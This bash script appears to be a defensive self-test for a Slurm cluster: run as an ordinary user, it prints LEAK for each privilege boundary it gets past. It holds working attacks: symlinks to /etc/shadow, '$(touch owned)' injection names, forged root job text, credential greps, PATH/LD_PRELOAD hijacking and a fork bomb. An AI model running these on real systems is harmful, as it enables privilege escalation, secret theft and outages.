#!/bin/bash
# What an ordinary user of the cluster can try against nodes, from a shell on one of them. It prints DONE at the end,
# and a line LEAK for each thing that should not have worked. Run it on a cluster that may be thrown away:
#   srun --nodelist NODE bash attack.sh NEXT_JOB_ID
set -u
job=$1
host=$(hostname)

try() { # what must fail
  if "$@" 2>/dev/null; then
    echo "LEAK: $*"
  fi
}

# The scratch folder: names that the prolog, the epilog and the boot will use.
for ((id = job; id < job + 20; id++)); do
  touch "/scratch/$id"
  try mkdir "/scratch/jobs/$id"
  try ln -s /etc "/scratch/jobs/$id"
done
try mv /scratch/jobs /scratch/mine
try ls /scratch/jobs
ln -s /etc/passwd "/scratch/.written-by-$host"
ln -s /etc "/scratch/.jobs"

# The shared file system: folders that root trusts, locks, keys.
try mkdir /fsx/podwright/mine
try mv /fsx/runs /fsx/mine
try ln -s /etc /fsx/mine
try rmdir /fsx/home
try cat /fsx/podwright/ssh/id_ed25519
try sh -c ': >>/fsx/home/.podwright.lock'
try flock --nonblock /opt/podwright/.boot.lock true
try sh -c ': >>/opt/podwright/node.json'

# Runs that no collector should read.
mkdir -p /fsx/runs/pipe /fsx/runs/link /fsx/runs/closed $'/fsx/runs/\xff'
mkfifo /fsx/runs/pipe/metrics.jsonl
ln -s /dev/zero /fsx/runs/link/metrics.jsonl
touch $'/fsx/runs/\xff/metrics.jsonl'
chmod 0 /fsx/runs/closed

# A name that would be a metric of its own, or a command.
# shellcheck disable=SC2016 # names as a user gives them
mkdir $'/fsx/runs/a"} 1\nnode_load1{x="' '/fsx/runs/$(touch owned)'
# shellcheck disable=SC2016
for folder in /fsx/runs/a* '/fsx/runs/$(touch owned)'; do
  echo '{"event": "train", "step": 1, "loss": NaN, "mfu": 1e999, "tokens_per_s": 1}' >"$folder/metrics.jsonl"
done

# Secrets in files that everybody reads, and in arguments of programs; what root runs and others may write.
cat >/tmp/secrets <<'PATTERNS'
PRIVATE KEY-----
IDENTIFIED BY
StoragePass=
ldap_default_authtok =
aws_secret_access_key
SecretString
PATTERNS
try grep --recursive --quiet --exclude='*.py' --file=/tmp/secrets /opt/podwright /opt/slurm/etc /opt/ml /etc/sssd \
  /var/log/provision
try grep --quiet --text --file=/tmp/secrets /proc/[0-9]*/cmdline
try grep --quiet . <(find /opt/podwright /opt/slurm /opt/ml /etc /usr/local /var/log /run/podwright* -writable ! -type l \
  2>/dev/null)
try sh -c 'cat /proc/1/environ'
try sudo --non-interactive true

# Memory that the epilog clears: a link instead of a folder, and folders in folders, as in the job's own.
ln -s /etc /dev/shm/link
for folder in /dev/shm "/scratch/jobs/$SLURM_JOB_ID"; do
  cd "$folder" && python3 -c 'import os; [(os.mkdir("deep"), os.chdir("deep")) for _ in range(20000)]; os.chmod(".", 0)' \
    </dev/null >/dev/null 2>&1 || echo "$folder holds no deep folders"
done

# What Slurm's administrators may do.
try scontrol update "NodeName=$host" State=DRAIN Reason=attack
try scontrol update "NodeName=$host" Features=attack
try scontrol reconfigure
try sbatch --uid=0 --wrap true
try sbatch --reboot --wrap true
try srun --overlap --bcast=/opt/podwright/attack true

# A report of this node, for which the controller has nodes rebooted, and texts that look like Slurm's own, for whoever
# reads its list of jobs as root.
scontrol update "JobId=$SLURM_JOB_ID" "Comment=podwright:replace:$(date +%s):gpu_rows@$host"
for text in 'x UserId=root(0) ' $'x\nJobId=1 UserId=root(0) JobState=PENDING' '-x'; do
  sbatch --quiet --hold --output=/dev/null --job-name="$text" --comment="$text" --wrap true
done

# The same by every other text that a job may have, by arrays, and by jobs of several parts.
forged=$'x UserId=root(0)\n   StdOut=/etc/shadow\nJobId=1 UserId=root(0) JobState=PENDING\xff'
for option in extra mail-user wckey gres-flags batch network; do # not every release or cluster takes each of them
  sbatch --quiet --hold --output=/dev/null "--$option=$forged" --wrap true 2>/dev/null
done
mkdir -p "/fsx/runs/$forged"
sbatch --quiet --hold --array=1-3 --job-name="$forged" --chdir="/fsx/runs/$forged" \
  --output="/fsx/runs/$forged/%A_%a" --error="/fsx/runs/$forged/e" --wrap true
sbatch --quiet --hold --job-name="$forged" --output=/dev/null --wrap true : --comment="$forged"

# Slurm's keys, and what systemd would do for a user.
try grep --quiet . <(find / -xdev \( -name munge.key -o -name 'jwt*.key' -o -name slurm.key \) -readable 2>/dev/null)
try munge --no-input --uid=0
try scontrol token username=root
try systemd-run --quiet true
try systemctl stop slurmd
try busctl --quiet call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager Reboot b false
try loginctl enable-linger

# Memory that outlives programs, all the watches that a user may have, and processes until none starts.
ipcmk --shmem 1000000 --mode 0666 >/dev/null && ipcmk --queue --semaphore 2 >/dev/null
touch /run/lock/mine
python3 -c 'import ctypes, time; [ctypes.CDLL(None).inotify_init() for _ in range(9999)]; time.sleep(600)' &
python3 -c 'import os, resource, time
resource.setrlimit(resource.RLIMIT_NPROC, (400, 400))
while os.fork(): pass
time.sleep(600)' 2>/dev/null

# A program that is root's, but for the user: it waits for a password and keeps a file of the user's open.
mkfifo /tmp/silent && (exec 3<>/tmp/silent 4>/tmp/kept && setsid su ada <&3 >/dev/null 2>&1) &

# A name that an ended program would have in /proc, and an error of a GPU in the kernel's log, for which nodes go.
cp /bin/sleep '/tmp/a) Z' && '/tmp/a) Z' 600 &
unshare --user --map-root-user --mount mount -t tmpfs -o 'NVRM: Xid (PCI:0000:10:1c): 64' x /mnt 2>/dev/null

# An environment for root's programs before and after a job: what they start from it writes a file.
evil=/fsx/runs/evil
mkdir -m 777 $evil
# shellcheck disable=SC2016 # for the shell that runs it
for name in rm timeout squeue python3 profile; do printf '#!/bin/sh\ntouch %s/by-$(/usr/bin/id -u)\n' $evil >$evil/$name; done
printf 'import os\nopen("%s/by-%%d" %% os.getuid(), "w")\n' $evil | tee $evil/sitecustomize.py >$evil/json.py
chmod 755 $evil/*
dangerous=PATH=$evil,PYTHONPATH=$evil,PYTHONHOME=$evil,LD_PRELOAD=$evil/x.so,ENV=$evil/profile,BASH_ENV=$evil/profile
dangerous+=,LD_AUDIT=$evil/x.so,PYTHONSTARTUP=$evil/json.py,PYTHONUSERBASE=$evil,SQUEUE_FORMAT2=userid,SQUEUE_USERS=root
dangerous+=,SQUEUE_STATES=FAILED,SLURM_CLUSTERS=x,SLURM_TIME_FORMAT=x,SLURM_DEBUG_FLAGS=x,SLURMD_NODENAME=x
dangerous+=,SLURM_JOB_UID=0,SLURM_JOB_ID=../../etc,SPANK_PATH=$evil,SPANK_LD_PRELOAD=$evil/x.so,SLURM_CONF=$evil/slurm.conf
cd /tmp || exit
sbatch --quiet --wait --nodelist="$host" --chdir=$evil --output=/dev/null --export="$dangerous" --wrap '/bin/true'

# Names that programs of root, or of another user's training here, could open: pipes, links and folders of everybody.
for name in podwright-0 podwright-2001 podwright-move.lock .podwright.lock podwright-remediation.json podwright; do
  mkdir -m 777 "/tmp/$name" && mkfifo "/tmp/$name/inductor"
  mkfifo "/var/tmp/$name"
  ln -s /etc/shadow "/run/lock/$name"
  ln -s /etc "/dev/shm/$name"
done
ln /etc/shadow /tmp/hard 2>/dev/null || true
try sh -c ': >/run/podwright-move.lock'
try sh -c ': >>/run/podwright-remediation.json'
try flock --nonblock /run/podwright-gpu-jobs/.lock true

# The own home, last: nothing may follow its links, and no boot may fail.
ln -sf /etc/shadow ~/.bashrc
printf '\xff\n' >>~/.ssh/authorized_keys
mv ~/.ssh/id_ed25519 ~/.ssh/old
ln -s /etc/shadow ~/.ssh/id_ed25519.pub
chmod 0 ~/.ssh
chmod g+w,o+w ~
echo DONE
